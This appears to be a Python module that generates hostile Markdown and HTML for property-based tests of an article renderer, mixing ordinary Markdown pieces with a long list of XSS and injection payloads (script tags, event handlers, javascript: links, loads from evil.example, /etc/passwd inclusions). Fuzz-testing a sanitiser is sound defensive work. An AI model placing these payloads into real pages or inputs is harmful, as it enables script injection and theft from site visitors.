"""Of which pieces are an article, a title and a text of a record made that want to fool whoever reads them?

Every piece is a sign or two of Markdown, or of what could run in a browser; only together they become a fence
that is never closed, a link in two lines or a table in a note. In the lists below ``␣`` stands for a blank, ``⇥``
for a tabulator, ``⏎`` for a new line, ``⟨200B⟩`` for the character of that number, and ``•`` for any other piece.

What is made depends on the ``Random`` alone: one with a seed makes the same each time, one of Hypothesis
(``articles``, ``texts``) is shrunk to the smallest that fails.
"""

import re
from random import Random

from hypothesis import strategies as st

from generator import yamlfile

_SIGNS = {ord("␣"): " ", ord("⇥"): "\t", ord("⏎"): "\n"}


def _pieces(text: str) -> tuple[str, ...]:
    return tuple(
        re.sub("⟨([0-9A-F]+)⟩", lambda match: chr(int(match[1], 16)), piece.translate(_SIGNS))
        for piece in text.split()
    )


MARKDOWN = _pieces(
    """
    a b␣c Xã␣Tiên HĐND 0 1 é đ “ ” … ' " (c) a_b_c 5*6 $ { } {#x} {: : = ^ / & ; , . ! ? ~ % @ § -␣ *␣ +␣ 1.␣ 2)␣
    10.␣ 0.␣ 123456789.␣ 1234567890.␣ >␣ > -␣[␣]␣ -␣[x]␣ -␣[␣]⏎ # ##␣ ###␣ ##␣M⏎ M⏎---⏎ --- === *** ___ : | ⏎ ⏎ ⏎
    ⏎ ⏎⏎ ⏎⏎ ⏎⏎ ␣␣⏎ \\⏎ ␣ ␣␣ ␣␣␣ ␣␣␣␣ ⇥ ⏎⇥ ⏎␣⇥ ** * __ _ ~~ ` `` ``` ⏎```⏎ ␣```⏎ ⏎␣␣␣```⏎ ~~~ ~~~⏎ ⏎␣␣~~~␣`⏎
    ````md⏎ \\ \\* \\` \\[ &amp; &copy; &#35; &lt; &nbsp; &ngE; &#38;lt; &quot; &#x22; &apos; [ ] ( ) ![ [a] [a]:
    [q] [q]:␣/don-vi/⏎ [q]:⏎␣␣/don-vi/⏎ [q]:⏎/don-vi/⏎"t⏎t"⏎ [^1] [^1]:␣c⏎ [^1]:␣ [^q] [^1]:␣c⏎⏎␣␣␣␣d⏎
    [a](/don-vi/) [a](/don-vi/␣"t") [a](/don-vi/␣'t"t') [a](/don-vi/⏎(t)) [a](#m) [a](<) ](/don-vi/) ](
    [](/don-vi/) [a](</don-vi/>) [a](/don-vi/#b) [a](/khao-sat/trang-2/) [a](/%64on-vi/) [Q][q] [q][]
    https://a.example/b www.a.example hdnd@vi-du.example <https://a.example> <a@vi-du.example> ftp://a.example
    https://a.example/(b) https://a.example/?b=c&amp;d [https://a.example](/don-vi/) mailto:a@b.example tel:113
    |a|b|⏎ |-|-|⏎ |:-|-:|⏎ a|b \\| ⏎a|b⏎-|-⏎c|d⏎ ⏎|a|⏎|-|⏎
    """
)
"""Signs of Markdown, as editors use and misuse them."""

ATTACKS = _pieces(
    """
    <script>tell()</script> <script␣src=//evil.example/x.js></script> <img␣src=x␣onerror=tell()>
    <IMG␣SRC=x␣ONERROR=tell()> <img⏎src=x⏎onerror=tell()> <img/src=x/onerror=tell()> <img␣src="x"onerror=tell()>
    <img␣src=x␣onerror⏎=⏎"tell()"> <image␣href=//evil.example/x.png> <img␣srcset=//evil.example/x.png>
    <svg␣onload=tell()> <svg><script>tell()</script></svg> <iframe␣src=javascript:tell()> <SvG/oNlOaD=tell()>
    <svg><animate␣onbegin=tell()␣attributeName=x␣dur=1s> <svg><use␣href="data:image/svg+xml,x"></svg>
    <math><mtext><table><mglyph><style><img␣src=x␣onerror=tell()> <math␣href="javascript:tell()">a</math>
    <iframe␣srcdoc="<script>parent.tell()</script>"> <a␣href=javascript:tell()>a</a>
    <a␣href="java⇥script:tell()">a</a> <style>@import␣"//evil.example/x.css";</style>
    <link␣rel=stylesheet␣href=//evil.example> <base␣href=//evil.example/>
    <form␣action=//evil.example><button␣autofocus␣onfocus=tell()>a <input␣autofocus␣onfocus=tell()>
    <body␣onload=tell()> <video␣src=//evil.example␣onerror=tell()> <audio␣autoplay> <details␣open␣ontoggle=tell()>
    <meta␣http-equiv=refresh␣content="0;url=//evil.example"> <object␣data=//evil.example>
    <embed␣src=//evil.example> <marquee␣onstart=tell()> <dialog␣open> <template>
    <noscript><p␣title="</noscript><img␣src=x␣onerror=tell()>"> <plaintext> <xmp> <isindex>
    <frameset␣onload=tell()> <!--␣ --> --!> <!--> <![CDATA[ ]]> <?x ?> <?php␣tell()␣?> <!DOCTYPE␣html>
    <!ENTITY␣x␣"y"> <div> </div> </p> </article> </body> <div␣markdown="1"> <div␣markdown=block␣onclick=tell()>
    <p␣markdown> <pre> </pre> <textarea> <title> </title> <br/> <b> </b> < </ <a <b <img <script <!- <svg/
    <a␣href=" <a␣href='x <x:y␣z=">" <x-y> ="> [a](javascript:tell()) [a](JaVaScRiPt:tell())
    [a](java⏎script:tell()) [a](&#106;avascript:tell()) [a](javascript&colon;tell()) [a](java&Tab;script:tell())
    [a](java&NewLine;script:tell()) [a](&#1;javascript:tell()) [a](&#x0A;javascript:tell())
    [a](javascript\\:tell()) [a](javascript%3Atell()) [a](␣javascript:tell()) [a](⟨A0⟩javascript:tell())
    [a](<javascript:tell()>) [a](<java⇥script:tell()>) [a](data:text/html,<script>tell()</script>) [a](vbscript:x)
    [a](data:text/html;base64,PHNjcmlwdD50ZWxsKCk8L3NjcmlwdD4=) [a](file:///etc/passwd) [a](blob:x)
    [a](filesystem:x) [a](//evil.example) [a](\\\\evil.example) [a](/\\evil.example) [a](/⇥/evil.example)
    [a](///evil.example) [a](http:/evil.example) [a](https://evil.example/) [a](https://a:b@evil.example/)
    [a](http://a@evil.example) [a](https:evil.example) [a](../../x) [a](https://evil.example/"onclick="tell())
    [a](https://evil.example␣"x"onclick="tell()") [a](/don-vi/␣'"><script>tell()</script>') <javascript:tell()>
    <JAVASCRIPT:tell()> <data:text/html,x> <x:tell()> <https://a"onclick="tell().example> xmpp:a@b.example
    [q]:␣javascript:tell()⏎ [q]:⏎␣javascript:tell()⏎ [q]:␣<javascript:tell()>⏎'t'⏎ [a⏎b](javascript:tell())
    [a[b[c]d]e](javascript:tell()) [![a](x)](javascript:tell()) [[a](javascript:tell())](/don-vi/)
    ![a](http://evil.example/x.png) ![a⏎b](//evil.example/x.png) ![t][q] [q]:⏎//evil.example/x.png⏎
    ![a](data:image/svg+xml,<svg␣onload=tell()>) ![<img␣src=x␣onerror=tell()>](x) ![a](x␣"onerror=tell())
    ![a](x"onerror="tell()) ![a"onerror="tell()](x) [a](x"onclick="tell()) [a](/don-vi/␣'"␣onmouseover=tell()␣"')
    {:␣onclick="tell()"␣} {:onclick=tell()} {␣onmouseover=tell()␣} {:␣.x␣#y␣} {#tell} {␣src="//evil.example"␣}
    {:␣style=position:fixed␣} ```{␣.x␣onclick=tell()␣} ```␣{.x␣onclick="tell()"} ```{=html} ```math⏎ ```mermaid⏎
    "><script>tell()</script> '><img␣src=x␣onerror=tell()> </article><script>tell()</script>
    </script><script>tell()</script> &lt;script&gt;tell()&lt;/script&gt; &#60;script>
    &#x3c;img␣src=x␣onerror=tell()&#x3e; \\<script>tell()</script> `<script>tell()</script>
    ``<img␣src=x␣onerror=tell()>` klzzwxh:0000 ⟨2⟩klzzwxh:0⟨3⟩ ⟨2⟩wzxhzdk:0⟨3⟩ ⟨2⟩amp⟨3⟩ ⟨0⟩ ⟨1⟩ ⟨8⟩ ⟨B⟩ ⟨C⟩ ⟨D⟩
    ⟨1B⟩[2J ⟨7F⟩ ⟨85⟩ ⟨200B⟩ ⟨202E⟩ ⟨2028⟩ ⟨FEFF⟩ ⟨FFFD⟩ ⟨FFFE⟩ ⟨E000⟩1⟨E001⟩ ⟨E000⟩ ⟨1F600⟩ ⟨2063⟩ ⟨AD⟩ ⟨A0⟩
    ⟨2003⟩ ⟨3000⟩ ⟨E0041⟩ ⟨301⟩ ⟨323⟩⟨301⟩ ⟨130⟩ ⟨149⟩ ⟨212A⟩ ⟨FF1C⟩script⟨FF1E⟩ &#x202e; &shy; &#0; &#1; &#10;
    &#13; &#x85; &#xD800; &#x110000; &#128; &Tab; &NewLine; &zwnj; &#9999999; &#xFDD0; &#2;klzzwxh:0&#3; @/don-vi/
    @/../ @/don-vi/#x @// href="#x" ␣id="x" ☐ ☑␣ {␣#kien-nghi␣} {{␣x␣}} {{␣7*7␣}} {%␣raw␣%}
    {%␣include␣"/etc/passwd"␣%} {#␣x␣#} ${x} #{x} <%=␣x␣%> [TOC] [[TOC]] [toc] [[_TOC_]] [[don-vi]] [[a|b]] ⏎:::⏎
    ⏎::: {++a++} {--a--} {~~a~>b~~} {>>a<<} {==a==} ==a== ^a^ ~a~ ⏎!!!␣note␣"x"⏎␣␣␣␣a⏎ ⏎???␣x⏎ ⏎===␣"x"⏎␣␣␣␣a⏎
    ⏎--8<--␣"/etc/passwd"⏎ ;--8<-- ⏎*[HĐND]:␣tell()⏎ ⏎*[a]:␣"><script>tell()</script>⏎ ⏎a⏎:␣␣␣b⏎ $$ $x$ $$x$$
    $`x`$ \\(x\\) \\[x\\] :smile: :material-home: :+1: :fontawesome-brands-x: @user #1 GH-1 user/repo#1
    a1b2c3d4e5f60718293a4b5c6d7e8f9012345678
    ⏎---⏎title:␣tell()⏎template:␣404.html⏎hide:␣[toc]⏎search:␣{exclude:␣true}⏎---⏎ ⏎+++⏎ ⏎...⏎ ⏎title:␣x⏎⏎ >␣[!NOTE]
    ⏎>␣[!WARNING]⏎>␣x⏎ [^<script>] [^a"b] [^__proto__] [constructor] [__proto__]:␣/don-vi/⏎ [^fn:1] #fn:1
    #fnref:1 javascript:tell() onerror=tell() style=position:fixed srcset=//evil.example onclick=tell()> tell()
    //evil.example/ \\\\evil.example\\x 0912345678 -->␣<script>tell()</script> ]]><script>tell()</script>
    ?><script>tell()</script> <!--[if␣IE]> <%tell()%> ${tell()} `${tell()}`
    """
)
"""What would run, load something from elsewhere, or break out of its place, if a reader took it for code."""

HOLDERS = _pieces(
    """
    `•` ``•`` ⏎```⏎•⏎```⏎ ⏎~~~␣•⏎•⏎~~~⏎ ⏎␣␣```⏎•⏎␣␣```⏎ ⏎⏎␣␣␣␣•⏎⏎ ⏎⏎⇥•⏎⏎ ⏎>␣•⏎•⏎ ⏎>␣•⏎>⏎>␣•⏎⏎ ⏎-␣•⏎⏎␣␣•⏎
    ⏎1.␣•⏎␣␣␣-␣•⏎ ⏎*␣•⏎*␣•⏎⏎ ⏎⏎##␣•⏎⏎ ⏎⏎•⏎---⏎⏎ ⏎###␣•␣###⏎ ⏎⏎•⏎===⏎ ⏎⏎|•|•|⏎|-|:-:|⏎|•|•|⏎⏎ ⏎⏎•|•⏎-|-⏎•|•⏎⏎
    [•](/don-vi/) [•](/don-vi/␣"•") [a](•) [a](<•>) [a](/•) [•](https://a.example/•) [a](#•) ![•](/•.png) ![•](•)
    [•][q]⏎⏎[q]:␣/don-vi/␣"•"⏎⏎ [•]⏎⏎[•]:␣/don-vi/⏎⏎ •[^1]⏎⏎[^1]:␣•⏎⏎ •[^•]⏎⏎[^•]:␣•⏎⏎␣␣␣␣•⏎⏎ **•** *•* ~~•~~
    ***•*** <•> <b␣•> <!--␣•␣--> <div>•</div> {:␣•␣} {{␣•␣}} {%␣•␣%} $•$ [[•]] {++•++} *[•]:␣•⏎ ⏎•⏎:␣␣␣•⏎ "•" (•)
    “•” \\• &•; •␣␣⏎• ⏎⏎•⏎⏎
    """
)
"""Places for other pieces: code, quotes, lists, headings, tables, links, notes, elements."""

_PUNCTUATION = re.compile(r"[!-/:-@\[-`{-~]")
_LONGEST = 60


def article(random: Random, *, attacks: int = 1) -> str:
    """Return the body of an article; of every three of its pieces ``attacks`` are attacks, the rest is Markdown."""
    pieces = (_piece(random, attacks, depth=3) for _ in range(random.randint(1, 12)))
    return "".join(pieces)


def text(random: Random) -> str:
    """Return a line of hostile text, as it could stand in a title or in a record."""
    pieces = (random.choice(random.choice((ATTACKS, ATTACKS, MARKDOWN))) for _ in range(random.randint(1, 4)))
    return " ".join("".join(pieces).split()) or "a"


def articles(*, attacks: int = 1) -> st.SearchStrategy[str]:
    """Return bodies of articles, as they are once they are loaded, for Hypothesis."""
    return st.randoms(use_true_random=False).map(lambda random: _loaded(article(random, attacks=attacks)))


def texts() -> st.SearchStrategy[str]:
    """Return lines of text for Hypothesis."""
    return st.randoms(use_true_random=False).map(text)


def _loaded(body: str) -> str:
    loaded, _ = yamlfile.decoded(body.encode())
    assert loaded is not None
    return yamlfile.clean(loaded)


def _piece(random: Random, attacks: int, *, depth: int) -> str:
    kind = random.randint(0, 9)
    if depth == 0 or kind < 5:
        return random.choice(ATTACKS if random.randrange(3) < attacks else MARKDOWN)
    inner = _piece(random, attacks, depth=depth - 1)
    if kind == 5:
        return _PUNCTUATION.sub(lambda sign: f"\\{sign[0]}", inner)
    if kind == 6:
        return _PUNCTUATION.sub(lambda sign: f"&#{ord(sign[0])};", inner)
    if kind == 7 and random.randrange(8) == 0:
        return inner * random.randint(2, _LONGEST)
    first, *rest = random.choice(HOLDERS).split("•")
    return first + "".join(_piece(random, attacks, depth=depth - 1) + each for each in rest)
